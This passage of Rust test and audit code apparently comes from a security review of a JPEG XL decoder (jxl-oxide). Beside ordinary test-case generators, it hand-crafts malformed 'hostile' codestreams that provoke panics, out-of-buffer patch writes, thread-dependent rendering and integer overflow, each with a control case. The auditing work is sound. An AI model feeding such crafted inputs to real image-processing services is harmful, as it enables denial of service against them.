            w.bits(0, 1); w.bits(0, 2); w.bits(1, 1);
            w.bits(1, 2); // comp_type: Y Cb Cr
            for _ in 0..3 { w.bits(0, 2); }
            w.sel(1, 0, 3); // two huffman codes
            for i in 0..2 { w.bits(i, 1); w.bits(0, 2); w.bits(i, 1); for _ in 0..17 { w.sel(0, 0, 0); } }
            w.sel(0, 0, 0); // tail data length 0
            w.bits(0, 1); // no padding bits
            let mut jbrd = w.finish();
            jbrd.push(0x06); // empty Brotli stream
            out.extend(make_box(b"jbrd", &jbrd, 0));
            out.extend(make_box(b"Exif", &exif_payload(), 0));
            out.extend(make_box(b"jxlc", &cs, 0));
        }
        _ => {
            name = "container_jxlc_open_ended";
            out.extend(make_box(b"xml ", &xml, 0));
            out.extend(make_box(b"jxlc", &cs, 2));
        }
    }
    case(name, &img, out)
}

fn vlf(c: usize, x: u32, y: u32) -> i32 { let v = ((x * 5 + y * 3 + c as u32 * 7) % 23) as i32 - 11; if c == 1 { v * 3 + 40 } else { v / 3 } }
fn vhf(c: usize, x: u32, y: u32) -> Vec<(u8, i32)> {
    let h = (x * 31 + y * 17 + c as u32 * 5) % 7;
    match h {
        0 => vec![],
        1 => vec![(1, 3)],
        2 => vec![(2, -2), (5, 1)],
        3 => vec![(1, 1), (2, 1), (3, -1), (10, 2)],
        4 => vec![(63, 1)],
        5 => vec![(4, -4), (9, 2), (20, 1)],
        _ => vec![(1, -1), (7, 1)],
    }
}

pub fn vardct_frame(img: &ImageSpec) -> FrameSpec {
    let mut f = FrameSpec::new(img);
    let (w, h) = f.color_size(img);
    f.vardct = Some(VarDctSpec::new(w, h, vlf, vhf));
    f.fill(img, |c, x, y| ((x * 9 + y * 5 + c as u32) % 256) as i32);
    f
}

pub fn vardct_single() -> Case {
    let mut img = ImageSpec::rgb(40, 24);
    img.xyb = true;
    let f = vardct_frame(&img);
    case("vardct_single", &img, encode_image(&img, &[f]))
}

pub fn vardct_alpha_epf() -> Case {
    let mut img = ImageSpec::rgb(37, 21);
    img.xyb = true;
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    let mut f = vardct_frame(&img);
    f.gab = true; f.epf_iters = 1;
    f.vardct.as_mut().unwrap().sharpness.iter_mut().enumerate().for_each(|(i, s)| *s = (i % 8) as i32);
    case("vardct_alpha_gab_epf", &img, encode_image(&img, &[f]))
}

pub fn vardct_groups(permute: bool, passes: u32) -> Case {
    let mut img = ImageSpec::rgb(300, 130);
    img.xyb = true;
    let mut f = vardct_frame(&img);
    f.num_passes = passes;
    f.vardct.as_mut().unwrap().hf_pass = passes - 1;
    if permute {
        let n = toc_entries(&img, &f);
        // LfGlobal first, then the pass groups in reverse order, HfGlobal and LfGroup last
        let mut perm = vec![0usize; n];
        perm[0] = 0;
        perm[1] = n - 1; // LfGroup 0
        perm[2] = n - 2; // HfGlobal
        for i in 3..n { perm[i] = n - 3 - (i - 3) ; }
        f.permutation = Some(perm);
    }
    let name = match (permute, passes) { (false, 1) => "vardct_groups", (true, 1) => "vardct_groups_permuted", (false, _) => "vardct_groups_passes2", _ => "vardct_groups_permuted_passes2" };
    case(name, &img, encode_image(&img, &[f]))
}

pub fn vardct_lf_frame() -> Case {
    let mut img = ImageSpec::rgb(64, 40);
    img.xyb = true;
    // LF frame: Modular, 1/8 size, XYB integer samples
    let mut l = FrameSpec::new(&img);
    l.frame_type = 1; l.lf_level = 1; l.is_last = false;
    l.fill(&img, |c, x, y| vlf([1, 0, 2][c], x, y));
    let mut f = vardct_frame(&img);
    f.flags = 0x20;
    case("vardct_lf_frame", &img, encode_image(&img, &[l, f]))
}

pub fn vardct_two_frames() -> Case {
    let mut img = ImageSpec::rgb(48, 32);
    img.xyb = true;
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    let mut f0 = vardct_frame(&img);
    f0.is_last = false; f0.save_as_reference = 1;
    let mut f1 = FrameSpec::new(&img);
    f1.crop = Some((5, 3, 30, 20));
    f1.blend = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 1 };
    f1.ec_blend[0] = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 1 };
    { let (w, h) = f1.color_size(&img); f1.vardct = Some(VarDctSpec::new(w, h, |c, x, y| vlf(c, x + 3, y + 1), |c, x, y| vhf(c, x + 1, y + 2))); }
    f1.fill(&img, |_, x, y| ((x * 13 + y * 7) % 256) as i32);
    case("vardct_two_frames_blend", &img, encode_image(&img, &[f0, f1]))
}

pub fn vardct_noise_patches() -> Case {
    let mut img = ImageSpec::rgb(40, 32);
    img.xyb = true;
    // patch source: Modular reference-only frame (XYB integer samples), saved before the colour transform
    let mut r = FrameSpec::new(&img);
    r.frame_type = 2; r.is_last = false; r.save_as_reference = 1; r.save_before_ct = true;
    r.crop = Some((0, 0, 8, 8));
    r.fill(&img, |c, x, y| vlf([1, 0, 2][c], x, y) / 2);
    let mut f = vardct_frame(&img);
    f.flags = 1 | 2; // noise + patches
    f.patches.push(PatchSpec { ref_idx: 1, x0: 1, y0: 1, width: 5, height: 4, targets: vec![(7, 9, vec![1]), (20, 3, vec![0])] });
    case("vardct_noise_patches", &img, encode_image(&img, &[r, f]))
}

pub fn vardct_lf_frame_vardct() -> Case {
    let mut img = ImageSpec::rgb(72, 48);
    img.xyb = true;
    // LF frame that is itself VarDCT coded (9x6 samples)
    let mut l = FrameSpec::new(&img);
    l.frame_type = 1; l.lf_level = 1; l.is_last = false;
    { let (w, h) = l.color_size(&img); l.vardct = Some(VarDctSpec::new(w, h, vlf, |_, _, _| vec![])); }
    let mut f = vardct_frame(&img);
    f.flags = 0x20;
    case("vardct_lf_frame_vardct", &img, encode_image(&img, &[l, f]))
}

pub fn squeeze(w: u32, h: u32, passes: u32, name: &'static str) -> Case {
    let mut img = ImageSpec::rgb(w, h);
    img.gray = true;
    let mut f = FrameSpec::new(&img);
    f.group_size_shift = 0;
    f.entropy = 1;
    f.squeeze = true;
    f.num_passes = passes;
    case(name, &img, encode_image(&img, &[f]))
}

/// Three frames, Modular only: patch source P (slot 1) <- F1 with patches (saved in slot 2) <- F2 blending over slot 2.
pub fn patch_chain() -> Case {
    let mut img = ImageSpec::rgb(300, 200);
    img.gray = true;
    let mut p = groups_frame(&img);
    p.frame_type = 2; p.is_last = false; p.save_as_reference = 1; p.save_before_ct = true;
    let mut f1 = groups_frame(&img);
    f1.is_last = false; f1.save_as_reference = 2;
    f1.flags = 2;
    f1.patches.push(PatchSpec { ref_idx: 1, x0: 10, y0: 10, width: 50, height: 30, targets: vec![(100, 50, vec![1])] });
    f1.fill(&img, |c, x, y| bits(c + 3, x, y));
    let mut f2 = groups_frame(&img);
    f2.blend = BlendSpec { mode: 1, alpha_channel: 0, clamp: false, source: 2 };
    f2.fill(&img, |c, x, y| bits(c + 7, x, y));
    case("patch_chain_3frames", &img, encode_image(&img, &[p, f1, f2]))
}

pub fn all_cases() -> Vec<Case> {
    vec![
        single(), single_gray_oriented(), animation(), blend_ref(), patches(), alpha(), upsampling2(), gab_epf(),
        groups(), groups_permuted(), groups_rgb_alpha_two_frames(), passes2(), passes3_groups(), icc(), preview(),
        skip_progressive_refonly(), container(0), container(1), container(2), container(3), container(4), container(5),
        vardct_single(), vardct_alpha_epf(), vardct_groups(false, 1), vardct_groups(true, 1), vardct_groups(false, 2), vardct_groups(true, 2),
        vardct_lf_frame(), vardct_two_frames(), vardct_noise_patches(), vardct_lf_frame_vardct(),
        squeeze(100, 90, 1, "squeeze_single"), squeeze(300, 280, 1, "squeeze_groups"), squeeze(600, 520, 3, "squeeze_groups_3passes"), patch_chain(),
    ]
}

//! F5-b: a VarDCT frame with `use_lf_frame` whose LF frame is a Modular frame of a non-XYB image,
//! i.e. the rendered LF frame holds integer sample buffers (and only one of them for a grey
//! image), while the VarDCT renderer expects three float buffers.
//!
//! Image: 64x64. Frame 0: LfFrame, lf_level = 1, Modular, 8x8 samples. Frame 1: Regular VarDCT
//! frame with `use_lf_frame` (one Dct64 varblock, all HF coefficients zero).
//!  * control: XYB image (the Modular LF frame is dequantized to three float channels).
//!  * hostile 1: grey, non-XYB image (LF frame has one integer channel).
//!  * hostile 2: RGB, non-XYB image (LF frame has three integer channels).

mod jxlw;
use jxlw::*;

const DCT64: u8 = 18;

fn stream(xyb: bool, grey: bool) -> Vec<u8> {
    let img = ImageOpts {
        width: 64,
        height: 64,
        xyb,
        grey,
        num_extra: 0,
    };
    let mut bw = Bw::new();
    write_image_header(&mut bw, &img);

    // Frame 0: LF frame (Modular), a diagonal ramp in the first channel.
    let lf = FrameOpts {
        lf_frame: true,
        modular: true,
        flags: 0,
        crop: None,
    };
    let ramp: Vec<i32> = (0..64).map(|i| 40 + 8 * (i % 8 + i / 8)).collect();
    let channels = if xyb {
        vec![ramp, vec![0; 64], vec![0; 64]] // Y, X, B - Y
    } else if grey {
        vec![ramp]
    } else {
        vec![ramp.clone(), ramp.clone(), ramp]
    };
    write_modular_frame(&mut bw, &img, &lf, &channels);
    bw.pad();

    // Frame 1: VarDCT, use_lf_frame.
    let hf = FrameOpts {
        lf_frame: false,
        modular: false,
        flags: USE_LF_FRAME,
        crop: None,
    };
    write_vardct_frame(
        &mut bw,
        &img,
        &hf,
        &VardctContent {
            coder: Coder::Flat,
            varblocks: &[(DCT64, 1)],
            ec_transform: EcTransform::None,
            ec_value: 0,
        },
    );
    bw.bytes
}

fn main() {
    install_panic_hook();
    let (c_panic, c_ok) = report(
        "control (XYB image, Modular LF frame)",
        &stream(true, false),
    );
    let (h1_panic, _) = report(
        "hostile 1 (grey non-XYB image, Modular LF frame)",
        &stream(false, true),
    );
    let (h2_panic, _) = report(
        "hostile 2 (RGB non-XYB image, Modular LF frame)",
        &stream(false, false),
    );
    if c_panic || !c_ok {
        println!("UNEXPECTED: the control did not decode");
        std::process::exit(2);
    }
    if h1_panic || h2_panic {
        println!("FAIL: hostile input panicked");
        std::process::exit(1);
    }
    println!("OK: hostile input did not panic");
}

//! D12 demo: the edge-preserving filter (EPF) of jxl-render uses a per-worker scratch `sigma_row`
//! that is only refreshed for LF groups whose `HfMetadata` is loaded. For a partially loaded VarDCT
//! frame (LF group 0 complete, LF group 1 has its LF coefficients but not yet its HfMetadata) the
//! sigma used inside LF group 1 is whatever the previous job on the same worker left behind, so the
//! rendered samples depend on the thread pool.
//!
//! The input is a hand-written 16x4096 VarDCT (YCbCr) codestream, group_dim = 256, so that there are
//! two LF groups stacked vertically (2048 rows each) and 512 EPF jobs of 8 rows each.
//! The stream is cut in the middle of the LfGroup(1) section, right after its LF coefficients.

use jxl_oxide::{JxlImage, JxlThreadPool};

const WIDTH: usize = 16;
const HEIGHT: usize = 4096;
const BW: usize = WIDTH / 8;
const LF_GROUP_ROWS: usize = 2048; // pixels
const LF_GROUP_BH: usize = LF_GROUP_ROWS / 8; // blocks
const NUM_LF_GROUPS: usize = HEIGHT / LF_GROUP_ROWS;
const NUM_GROUPS: usize = HEIGHT / 256;
const GLOBAL_SCALE: u32 = 2048;
/// EPF sharpness index stored for every block of LF group 0 (sigma = 0.46 * 65536 / 2048 * 7/7).
const SHARPNESS_GROUP0: i32 = 7;

// ---------------------------------------------------------------------------------------------
// JPEG XL bit writer (LSB first) and entropy-coded stream helpers (from the C17c reference demo)
// ---------------------------------------------------------------------------------------------

struct Bw {
    bytes: Vec<u8>,
    nbits: usize,
}

impl Bw {
    fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }

    fn bits(&mut self, value: u64, n: usize) {
        for i in 0..n {
            let bit = ((value >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().unwrap() |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    fn bool(&mut self, b: bool) {
        self.bits(b as u64, 1);
    }

    fn pad(&mut self) {
        while self.nbits % 8 != 0 {
            self.bits(0, 1);
        }
    }

    fn append_bytes(&mut self, bytes: &[u8]) {
        assert_eq!(self.nbits % 8, 0);
        self.bytes.extend_from_slice(bytes);
        self.nbits += bytes.len() * 8;
    }
}

/// Entropy code spec: no LZ77, single cluster, prefix code with a flat 32-symbol alphabet
/// (5 bits/token), hybrid integer config (split_exponent 0, msb 0, lsb 0).
fn write_flat_code_spec(bw: &mut Bw, num_dist: u32) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true); // simple cluster map
        bw.bits(0, 2); // 0 bits per entry
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    bw.bool(true); // alphabet size > 1
    bw.bits(4, 4); // n = 4
    bw.bits(15, 4); // 1 + 16 + 15 = 32
    bw.bits(0, 2); // complex prefix code, hskip = 0
    for pos in 0..18 {
        if pos == 5 {
            bw.bits(1, 2);
        } else {
            bw.bits(0, 2);
        }
    }
}

/// Entropy code spec where every token is zero (alphabet size 1).
fn write_zero_code_spec(bw: &mut Bw, num_dist: u32) {
    bw.bool(false); // lz77
    if num_dist > 1 {
        bw.bool(true);
        bw.bits(0, 2);
    }
    bw.bool(true); // use prefix code
    bw.bits(0, 4); // split_exponent = 0
    bw.bool(false); // alphabet size 1
}

fn write_uint(bw: &mut Bw, v: u32) {
    let token = if v == 0 { 0 } else { 32 - v.leading_zeros() };
    let rev = (token as u8).reverse_bits() >> 3;
    bw.bits(rev as u64, 5);
    if v > 0 {
        let n = token - 1;
        bw.bits((v - (1 << n)) as u64, n as usize);
    }
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        (-v) as u32 * 2 - 1
    }
}

fn write_modular_header(bw: &mut Bw) {
    bw.bool(true); // use_global_tree
    bw.bool(true); // default wp
    bw.bits(0, 2); // nb_transforms = 0
}

fn write_toc_size(bw: &mut Bw, size: usize) {
    if size < 1024 {
        bw.bits(0, 2);
        bw.bits(size as u64, 10);
    } else {
        assert!(size < 1024 + (1 << 14));
        bw.bits(1, 2);
        bw.bits((size - 1024) as u64, 14);
    }
}

// ---------------------------------------------------------------------------------------------
// Picture content: quantized LF (DC) coefficients, a deterministic non-flat pattern
// ---------------------------------------------------------------------------------------------

/// Quantized LF value of channel `c` (0 = Y, 1 = Cb, 2 = Cr) for block (bx, by) of the frame.
fn lf_value(c: usize, bx: usize, by: usize) -> i32 {
    let h = (bx * 7 + by * 13 + (by / 3) * 5) % 23;
    match c {
        0 => h as i32 * 3 - 30, // Y: steps of up to ~0.25 in [0, 1] sample units
        1 => ((by * 5 + bx) % 9) as i32 * 8 - 32,
        _ => ((by * 3 + bx * 2) % 7) as i32 - 3,
    }
}

// ---------------------------------------------------------------------------------------------
// Codestream
// ---------------------------------------------------------------------------------------------

struct Stream {
    /// Complete bytes of: headers, TOC, LfGlobal, LfGroup(0), LfGroup(1).
    bytes: Vec<u8>,
    /// Length of the prefix that ends inside LfGroup(1), after its LF coefficients.
    cut: usize,
}

fn write_lf_group(lf_group_idx: usize) -> (Vec<u8>, usize) {
    let mut sec = Bw::new();
    // --- LfCoeff
    sec.bits(0, 2); // extra_precision
    write_modular_header(&mut sec);
    for c in 0..3 {
        for y in 0..LF_GROUP_BH {
            for x in 0..BW {
                let v = lf_value(c, x, lf_group_idx * LF_GROUP_BH + y);
                write_uint(&mut sec, pack_signed(v));
            }
        }
    }
    let lf_coeff_bits = sec.nbits;

    // --- HfMetadata
    let num_blocks = BW * LF_GROUP_BH;
    sec.bits(
        (num_blocks - 1) as u64,
        num_blocks.next_power_of_two().trailing_zeros() as usize,
    );
    write_modular_header(&mut sec);
    let cfl_samples = WIDTH.div_ceil(64) * LF_GROUP_ROWS.div_ceil(64);
    for _ in 0..2 * cfl_samples {
        write_uint(&mut sec, 0); // x_from_y, b_from_y
    }
    for _ in 0..num_blocks {
        write_uint(&mut sec, 0); // dct_select = DCT8
    }
    for _ in 0..num_blocks {
        write_uint(&mut sec, 0); // hf_mul - 1
    }
    let sharpness = if lf_group_idx == 0 { SHARPNESS_GROUP0 } else { 3 };
    for _ in 0..num_blocks {
        write_uint(&mut sec, pack_signed(sharpness));
    }
    sec.pad();
    (sec.bytes, lf_coeff_bits.div_ceil(8))
}

fn write_codestream(epf_iters: u64) -> Stream {
    let mut bw = Bw::new();
    // Signature
    bw.bits(0xff, 8);
    bw.bits(0x0a, 8);
    // SizeHeader
    bw.bool(false); // div8
    bw.bits(1, 2); // height: 1 + u(13)
    bw.bits((HEIGHT - 1) as u64, 13);
    bw.bits(0, 3); // ratio
    bw.bits(0, 2); // width: 1 + u(9)
    bw.bits((WIDTH - 1) as u64, 9);
    // ImageMetadata
    bw.bool(false); // all_default
    bw.bool(false); // extra_fields
    bw.bool(false); // bit_depth: integer
    bw.bits(0, 2); // 8 bits
    bw.bool(true); // modular_16bit_buffers
    bw.bits(0, 2); // num_extra = 0
    bw.bool(false); // xyb_encoded
    bw.bool(true); // colour_encoding all_default
    bw.bits(0, 2); // extensions
    bw.bool(true); // default_m
    bw.pad();

    // FrameHeader
    bw.bool(false); // all_default
    bw.bits(0, 2); // RegularFrame
    bw.bits(0, 1); // VarDCT
    bw.bits(2, 2); // flags: U64 selector 2
    bw.bits(0x80 - 17, 8); // skip_adaptive_lf_smoothing
    bw.bool(true); // do_ycbcr
    bw.bits(0, 6); // jpeg_upsampling
    bw.bits(0, 2); // upsampling = 1
    bw.bits(0, 2); // num_passes = 1
    bw.bool(false); // have_crop
    bw.bits(0, 2); // blend mode Replace
    bw.bool(true); // is_last
    bw.bits(0, 2); // name length 0
    bw.bool(false); // restoration filter all_default
    bw.bool(false); // gab disabled
    bw.bits(epf_iters, 2); // epf iters
    if epf_iters != 0 {
        bw.bool(false); // sharp_custom
        bw.bool(false); // weight_custom
        bw.bool(false); // sigma_custom
    }
    bw.bits(0, 2); // rf extensions
    bw.bits(0, 2); // extensions

    // --- LfGlobal
    let mut sec = Bw::new();
    sec.bool(true); // lf_dequant all_default
    sec.bits(0, 2); // global_scale selector 0
    sec.bits((GLOBAL_SCALE - 1) as u64, 11);
    sec.bits(0, 2); // quant_lf = 16
    sec.bool(true); // default HfBlockContext
    sec.bool(false); // lf_chan_corr not default
    sec.bits(0, 2); // colour_factor = 84
    sec.bits(0, 16); // base_correlation_x = 0.0
    sec.bits(0, 16); // base_correlation_b = 0.0
    sec.bits(128, 8); // x_factor_lf
    sec.bits(128, 8); // b_factor_lf
    // Global modular: global MA tree
    sec.bool(true);
    write_zero_code_spec(&mut sec, 6); // tree: single leaf, Zero predictor, offset 0, multiplier 1
    write_flat_code_spec(&mut sec, 1);
    sec.pad();
    let lf_global = sec.bytes;

    let (lf_group0, _) = write_lf_group(0);
    let (lf_group1, lf_group1_lf_coeff_bytes) = write_lf_group(1);

    // TOC: LfGlobal, LfGroup(0), LfGroup(1), HfGlobal, PassGroup(0, 0..16).
    bw.bool(false); // not permuted
    bw.pad();
    write_toc_size(&mut bw, lf_global.len());
    write_toc_size(&mut bw, lf_group0.len());
    write_toc_size(&mut bw, lf_group1.len());
    write_toc_size(&mut bw, 64); // HfGlobal: never delivered
    for _ in 0..NUM_GROUPS {
        write_toc_size(&mut bw, 64); // PassGroup: never delivered
    }
    bw.pad();
    bw.append_bytes(&lf_global);
    bw.append_bytes(&lf_group0);
    let lf_group1_start = bw.bytes.len();
    bw.append_bytes(&lf_group1);

    assert_eq!(NUM_LF_GROUPS, 2);
    Stream {
        // two more bytes than the LF coefficients: the HfMetadata header starts but cannot finish
        cut: lf_group1_start + lf_group1_lf_coeff_bytes + 2,
        bytes: bw.bytes,
    }
}

// ---------------------------------------------------------------------------------------------
// Decoding
// ---------------------------------------------------------------------------------------------

struct Rendered {
    width: usize,
    height: usize,
    channels: usize,
    buf: Vec<f32>,
}

fn render(prefix: &[u8], pool: JxlThreadPool) -> Rendered {
    let mut image = JxlImage::builder()
        .pool(pool)
        .read(std::io::Cursor::new(prefix))
        .expect("failed to read the codestream prefix");
    assert!(!image.is_loading_done());
    let render = image
        .render_loading_frame()
        .expect("failed to render the partially loaded frame");
    let fb = render.image_all_channels();
    Rendered {
        width: fb.width(),
        height: fb.height(),
        channels: fb.channels(),
        buf: fb.buf().to_vec(),
    }
}

/// Returns the number of differing samples.
fn compare(name: &str, base: &Rendered, other: &Rendered) -> usize {
    assert_eq!(
        (base.width, base.height, base.channels),
        (other.width, other.height, other.channels)
    );
    let mut count = 0usize;
    let mut first = None;
    let mut min_row = usize::MAX;
    let mut max_row = 0usize;
    let mut max_abs = 0f32;
    for (i, (a, b)) in base.buf.iter().zip(&other.buf).enumerate() {
        if a.to_bits() != b.to_bits() {
            count += 1;
            let c = i % base.channels;
            let x = (i / base.channels) % base.width;
            let y = i / base.channels / base.width;
            if first.is_none() {
                first = Some((x, y, c, *a, *b));
            }
            min_row = min_row.min(y);
            max_row = max_row.max(y);
            max_abs = max_abs.max((a - b).abs());
        }
    }
    match first {
        None => println!("  {name}: identical to pool none ({} samples)", base.buf.len()),
        Some((x, y, c, a, b)) => println!(
            "  {name}: {count} of {} samples differ from pool none; first at (x={x}, y={y}, c={c}): \
             none={a:?} {name}={b:?}; rows {min_row}..={max_row}; max |diff| = {max_abs:?}",
            base.buf.len()
        ),
    }
    count
}

fn run(label: &str, epf_iters: u64, cut_lf_group1: bool) -> usize {
    let stream = write_codestream(epf_iters);
    let prefix = if cut_lf_group1 {
        &stream.bytes[..stream.cut]
    } else {
        &stream.bytes[..]
    };
    println!(
        "{label}: {WIDTH}x{HEIGHT} VarDCT, epf_iters={epf_iters}, {} LF groups, feeding {} of {} bytes \
         (LfGlobal + LfGroup(0) complete, LfGroup(1) {})",
        NUM_LF_GROUPS,
        prefix.len(),
        stream.bytes.len() + 64 * (1 + NUM_GROUPS),
        if cut_lf_group1 {
            "cut after its LF coefficients, i.e. without HfMetadata"
        } else {
            "complete"
        },
    );

    let base = render(prefix, JxlThreadPool::none());
    let again = render(prefix, JxlThreadPool::none());
    let mut total = 0usize;
    let n = compare("none(2nd run)", &base, &again);
    assert_eq!(n, 0, "sequential rendering must be repeatable");
    for threads in [2usize, 4, 8] {
        for rep in 0..3 {
            let r = render(prefix, JxlThreadPool::rayon(Some(threads)));
            total += compare(&format!("rayon({threads})#{rep}"), &base, &r);
        }
    }
    total
}

fn main() {
    let control = run("control A (EPF disabled)", 0, true)
        + run("control B (EPF enabled, both LF groups have HfMetadata)", 2, false);
    let total = run("D12 (EPF enabled, LfGroup(1) without HfMetadata)", 2, true);
    if control != 0 {
        println!("UNEXPECTED: a control depends on the thread pool");
        std::process::exit(2);
    }
    if total != 0 {
        println!(
            "FAIL: rendered samples depend on the thread pool when EPF is enabled \
             (stale per-worker sigma_row for an LF group without HfMetadata)"
        );
        std::process::exit(1);
    }
    println!("OK: rendered samples do not depend on the thread pool");
}

//! F3-a: a patch whose target lies outside the colour-resolution buffer of an upsampled frame.
//!
//! Frame 0: ReferenceOnly, 64x64, Modular, flat colour, save_as_reference = 1.
//! Frame 1: Regular, 64x64, Modular, upsampling = 2 (colour buffer 32x32), patches flag, one 8x8
//!          patch taken from reference slot 1 at (0, 0), blend mode Replace.
//!
//! hostile: patch target (0, 40) - below the 32-row colour buffer
//! hostile2: 60x60 image (colour buffer 30x30), patch target (24, 0): columns 24..32
//! control: patch target (0, 8)

mod writer;
use writer::*;

fn stream(size: u32, target: (u32, u32)) -> Vec<u8> {
    let reference = FrameSpec {
        frame_type: FRAME_REFERENCE_ONLY,
        is_last: false,
        save_as_reference: 1,
        ..FrameSpec::regular([200, 100, 50])
    };
    let main = FrameSpec {
        flags: 2,
        upsampling: 2,
        patches: vec![Patch {
            ref_idx: 1,
            x0: 0,
            y0: 0,
            width: 8,
            height: 8,
            target,
            mode: PATCH_REPLACE,
        }],
        ..FrameSpec::regular([10, 20, 30])
    };
    encode((size, size), &[reference, main])
}

fn main() {
    install_panic_hook();
    let probe = [(0, 0), (2, 20), (40, 40), (2, 63)];
    let control_panicked = report("control (64x64, patch target (0,8))", &stream(64, (0, 8)), &probe);
    let mut hostile_panicked =
        report("hostile (64x64, patch target (0,40))", &stream(64, (0, 40)), &probe);
    // 60x60 => colour buffer 30x30; the patch covers columns 24..32 (inside the frame padded to a
    // multiple of 8, which is what libjxl checks, but wider than the buffer).
    hostile_panicked |= report(
        "hostile2 (60x60, patch target (24,0))",
        &stream(60, (24, 0)),
        &[(0, 0), (50, 2), (59, 2), (59, 59)],
    );
    if control_panicked {
        println!("unexpected: control input panicked");
    }
    std::process::exit(if hostile_panicked { 1 } else { 0 });
}

use harness::*;

fn rng(seed: &mut u64) -> u32 {
    *seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
    (*seed >> 33) as u32
}

fn image(w: usize, h: usize, modv: u32, base: i32) -> Vec<Chan> {
    let mut seed = 777u64;
    let mut c = Chan::new(w, h);
    for v in &mut c.data {
        *v = base + (rng(&mut seed) % modv) as i32;
    }
    vec![c]
}

fn run(name: &str, tree: &T, chans: &[Chan], bits: u32, narrow: bool) {
    let m = encode_modular(tree, chans, 0, &EncodeOpts::default());
    let cfg = ImgCfg {
        w: chans[0].w,
        h: chans[0].h,
        grey: chans.len() == 1,
        bits,
        narrow,
    };
    let bytes = build_codestream(&cfg, &m);
    let path = format!("/tmp/audit_scratch_D/{}.jxl", name.replace(' ', "_"));
    std::fs::write(&path, &bytes).unwrap();
    if narrow {
        report(&format!("{name} / frame-api i16"), chans, &decode_frame_api::<i16>(&bytes));
    }
    report(&format!("{name} / frame-api i32"), chans, &decode_frame_api::<i32>(&bytes));
    report(&format!("{name} / JxlImage "), chans, &decode_top(&bytes, bits));
}

fn main() {
    let which = std::env::args().nth(1).unwrap_or_default();
    const P: u32 = 7; // property W
    const PRED: u32 = 1; // West

    if which.is_empty() || which == "redundant" {
        println!("== T1: lookup-table compilation with a redundant same-property decision ==");
        let chans = image(12, 6, 40, 0);
        // root: W > 10 ? L : R
        //   R: W > 20 ? RL : RR     <- redundant (always RR), value > range end
        //   L: W > 15 ? LL : LR
        //   LL: W > 30 ? LLL : LLR
        let mk = |rl: T, with_ll: bool| {
            d(
                P,
                10,
                d(
                    P,
                    15,
                    if with_ll {
                        d(P, 30, leaf(PRED), leaf(PRED))
                    } else {
                        leaf(PRED)
                    },
                    leaf(PRED),
                ),
                d(P, 20, rl, leaf(PRED)),
            )
        };
        run("T1a table simple", &mk(leaf(PRED), true), &chans, 8, true);
        run(
            "T1b table non-simple (unreachable leaf has offset 1)",
            &mk(leaf_om(PRED, 1, 1), true),
            &chans,
            8,
            true,
        );
        run("T1c same but only 3 ranges (no table)", &mk(leaf(PRED), false), &chans, 8, true);
        // T1e: one shared cluster, leaves differ by offset only => wrong leaf = silently wrong pixels
        {
            let t = d(
                P,
                10,
                d(P, 15, d(P, 30, leaf_om(0, 40, 1), leaf_om(0, 30, 1)), leaf_om(0, 20, 1)),
                d(P, 20, leaf_om(0, 10, 1), leaf_om(0, 0, 1)),
            );
            // image where value == offset of the leaf the reference model selects, residual 0..3
            let mut rng = Rng(5);
            let (m, ch) = {
                let nodes_tree = t.clone();
                let dims = vec![(12usize, 6usize)];
                // generate with single cluster
                let _ = &nodes_tree;
                generate_modular_ex(&t, &dims, 0, &mut rng, 3, true)
            };
            let cfg = ImgCfg { w: 12, h: 6, grey: true, bits: 8, narrow: true };
            let bytes = build_codestream(&cfg, &m);
            std::fs::write("/tmp/audit_scratch_D/T1e_silent.jxl", &bytes).unwrap();
            report("T1e redundant decision, leaves differ by offset / frame-api i32", &ch, &decode_frame_api::<i32>(&bytes));
            report("T1e redundant decision, leaves differ by offset / JxlImage", &ch, &decode_top(&bytes, 8));
        }
        // control: same shape, not redundant (threshold 5 instead of 20)
        let ctrl = d(
            P,
            10,
            d(P, 15, d(P, 30, leaf(PRED), leaf(PRED)), leaf(PRED)),
            d(P, 5, leaf(PRED), leaf(PRED)),
        );
        run("T1d control non-redundant table", &ctrl, &chans, 8, true);
    }

    if which.is_empty() || which == "base" {
        println!("== T2: cluster_from_table `sample - value_base` overflow ==");
        let chans = image(12, 6, 40, 0);
        let m = i32::MIN;
        let mk = |r: T| {
            d(
                P,
                m + 10,
                d(P, m + 20, d(P, m + 30, leaf(PRED), leaf(PRED)), leaf(PRED)),
                r,
            )
        };
        run("T2a table simple, thresholds near i32::MIN", &mk(leaf(PRED)), &chans, 8, true);
        run(
            "T2b same, non-simple (unreachable leaf has offset 1)",
            &mk(leaf_om(PRED, 1, 1)),
            &chans,
            8,
            true,
        );
        // gradient table variant (prop 9, gradient predictor)
        let mkg = |r: T| {
            d(
                9,
                m + 10,
                d(9, m + 20, d(9, m + 30, leaf(5), leaf(5)), leaf(5)),
                r,
            )
        };
        run("T2c gradient table, thresholds near i32::MIN", &mkg(leaf(5)), &chans, 8, true);
        run(
            "T2d same, non-simple",
            &mkg(leaf_om(5, 1, 1)),
            &chans,
            8,
            true,
        );
    }

    if which.is_empty() || which == "minmax" {
        println!("== T3: thresholds exactly i32::MIN / i32::MAX ==");
        let chans = image(12, 6, 40, 0);
        let m = i32::MIN;
        let t = d(
            P,
            m,
            d(P, m + 20, d(P, m + 30, leaf(PRED), leaf(PRED)), leaf(PRED)),
            leaf(PRED),
        );
        run("T3a threshold i32::MIN in table", &t, &chans, 8, true);
        let x = i32::MAX;
        let t = d(
            P,
            x,
            leaf(PRED),
            d(P, x - 20, leaf(PRED), d(P, x - 30, leaf(PRED), leaf(PRED))),
        );
        run("T3b threshold i32::MAX in table", &t, &chans, 8, true);
    }
}

use harness::*;

fn rng(seed: &mut u64) -> u32 {
    *seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
    (*seed >> 33) as u32
}

fn main() {
    let mut seed = 12345u64;
    let (w, h) = (9usize, 7usize);
